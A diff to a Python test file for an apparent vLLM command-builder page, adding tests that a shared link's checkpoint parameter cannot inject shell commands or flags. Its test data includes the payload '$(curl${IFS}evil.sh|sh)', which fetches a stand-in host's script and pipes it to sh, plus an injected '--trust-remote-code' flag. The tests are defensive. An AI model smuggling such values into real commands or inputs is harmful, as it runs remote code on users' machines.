@@ -267,14 +267,39 @@ def test_a_linked_checkpoint_cannot_inject_shell_or_flags_into_the_command() -> 
     # a shared link's ckpt was pasted into the command as is: "vllm serve
     # $(curl${IFS}evil.sh|sh) ..." passed vLLM's parser and ran the substitution when copied
     query = {"model": "Qwen/Qwen3-8B", "gpu": "l4", "gpn": "1", "tp": "1", "quant": "gptq"}
-    at = open_page(None, **query, ckpt="$(curl${IFS}evil.sh|sh)")
+    at = open_page(None, **query, ckpt="./$(curl${IFS}evil.sh|sh)")  # a path: kept, quoted
     assert not at.exception
     command = next(c.value for c in at.code if c.language == "bash")
-    assert command.startswith("vllm serve '$(curl${IFS}evil.sh|sh)' --max-model-len")
+    assert command.startswith("vllm serve './$(curl${IFS}evil.sh|sh)' --max-model-len")
     at = open_page(None, **query, ckpt="--trust-remote-code")
     assert not at.exception
     assert any("ckpt='--trust-remote-code' ignored" in w.value for w in at.sidebar.warning)
     assert "--trust-remote-code" not in " ".join(c.value for c in at.code)
+
+
+def test_a_checkpoint_that_is_no_repo_id_nor_path_is_refused_in_words() -> None:
+    # put in the command as is before; vLLM, not finding it on disk, asks the hub's client,
+    # which refuses the name (validate_repo_id): the CLI's --target-checkpoint says so too
+    query = {"model": "Qwen/Qwen3-8B", "gpu": "l4", "gpn": "1", "tp": "1", "quant": "gptq"}
+    at = open_page(None, **query, ckpt="$(curl${IFS}evil.sh|sh)")
+    assert not at.exception
+    assert not [c for c in at.code if c.language == "bash"]  # no checkpoint: no command
+    rules = ("is not a Hugging Face repo id: expected owner/name such as Qwen/Qwen3-8B "
+             "(letters, digits, '-', '_', '.'; at most 96 characters each), or a path to an "
+             "existing folder on the machine vLLM runs on (starting with / or ./)")
+    shown = [w.value.replace("\\", "") for w in at.sidebar.warning]  # Markdown-escaped
+    assert any(w.startswith("Link parameter ckpt='$(curl${IFS}evil.sh|sh)' ignored: the "
+                            f"checkpoint '$(curl${{IFS}}evil.sh|sh)' {rules}")
+               for w in shown), shown
+    at = open_page(None, **query)
+    at.text_input(key="plan.target_checkpoint").input("me/ckpts/qwen3-gptq").run()
+    assert not at.exception
+    shown = " ".join(str(e.value) for e in (*at.warning, *at.sidebar.warning, *at.error))
+    assert "the checkpoint 'me/ckpts/qwen3-gptq' is not a Hugging Face repo id" in shown
+    assert "Kept empty (the default)." in shown
+    at.text_input(key="plan.target_checkpoint").input("/models/qwen3-gptq").run()
+    command = next(c.value for c in at.code if c.language == "bash")
+    assert command.startswith("vllm serve /models/qwen3-gptq ")
 
 
 def test_an_nvfp4_kv_cache_is_offered_and_sized_with_its_scales() -> None:
